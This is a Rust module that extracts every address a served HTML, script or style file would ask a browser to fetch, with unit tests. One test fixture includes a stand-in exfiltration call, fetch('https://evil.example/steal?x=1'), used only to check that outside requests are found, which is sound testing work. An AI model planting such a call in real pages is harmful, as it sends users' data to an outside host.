//! What a file asks a browser to fetch: every quoted or bracketed address in it.
//!
//! It reads HTML, scripts and styles alike and errs on the side of too much: what is found is only asked for.

/// The addresses on the same server, and whole addresses of other places, that a file served at `from` names.
pub(super) fn of(body: &[u8], from: &str) -> Vec<String> {
    let text = String::from_utf8_lossy(body);
    let pieces = text.split([
        '"', '\'', '`', '(', ')', '<', '>', ' ', '\n', '\t', '=', ',',
    ]);
    pieces.filter_map(|piece| resolve(piece, from)).collect()
}

fn resolve(piece: &str, from: &str) -> Option<String> {
    let piece = piece.split(['#', '?']).next()?;
    if piece.len() > LONGEST || !piece.is_ascii() || piece.contains(['\\', '{', '}', '*']) {
        return None;
    }
    let elsewhere = ["http://", "https://", "ws://", "wss://"];
    if elsewhere.iter().any(|scheme| piece.starts_with(scheme)) {
        let named = piece.split_once("://")?.1;
        return (!named.is_empty() && !NAMES_ONLY.contains(&piece)).then(|| piece.to_owned());
    }
    if let Some(host) = piece.strip_prefix("//") {
        let is_host = host.contains('.') && !host.starts_with(['.', '/']);
        return is_host.then(|| format!("http://{host}"));
    }
    let path = if let Some(beside) = piece.strip_prefix("./") {
        format!("{}/{beside}", folder(from))
    } else if let Some(above) = piece.strip_prefix("../") {
        format!("{}/{above}", folder(folder(from)))
    } else if piece.starts_with('/') {
        piece.to_owned()
    } else if names_a_file(piece) {
        format!("{}/{piece}", folder(from))
    } else {
        return None;
    };
    path.bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || b"/._-~%+@".contains(&byte))
        .then_some(path)
        .filter(|path| path.len() > 1 && !path.contains("//"))
}

fn folder(path: &str) -> &str {
    path.rsplit_once('/').map_or("", |(folder, _)| folder)
}

fn names_a_file(piece: &str) -> bool {
    let endings = [
        ".js", ".mjs", ".css", ".html", ".json", ".wasm", ".svg", ".png", ".woff2",
    ];
    endings.iter().any(|ending| piece.ends_with(ending)) && !piece.starts_with('.')
}

const LONGEST: usize = 300;

/// Names that look like addresses and are never fetched.
const NAMES_ONLY: [&str; 4] = [
    "http://www.w3.org/2000/svg",
    "http://www.w3.org/1999/xlink",
    "http://www.w3.org/1998/Math/MathML",
    "http://www.w3.org/1999/xhtml",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_way_of_asking_for_a_file_is_found() {
        let page = br#"<script src="/assets/a.js"></script><link href=/assets/b.css><img src='//evil.example/x.png'>
            import("./c.js"); import "../help/d.js"; url(e.woff2) fetch('https://evil.example/steal?x=1') new Worker("w.js")"#;
        let found = of(page, "/assets/page.js");
        for wanted in [
            "/assets/a.js",
            "/assets/b.css",
            "http://evil.example/x.png",
            "/assets/c.js",
            "/help/d.js",
            "/assets/e.woff2",
            "https://evil.example/steal",
            "/assets/w.js",
        ] {
            assert!(found.contains(&wanted.to_owned()), "{wanted} in {found:?}");
        }
    }

    #[test]
    fn the_name_of_a_kind_of_drawing_is_no_request() {
        assert!(of(br#"<svg xmlns="http://www.w3.org/2000/svg">"#, "/m/x/").is_empty());
    }
}
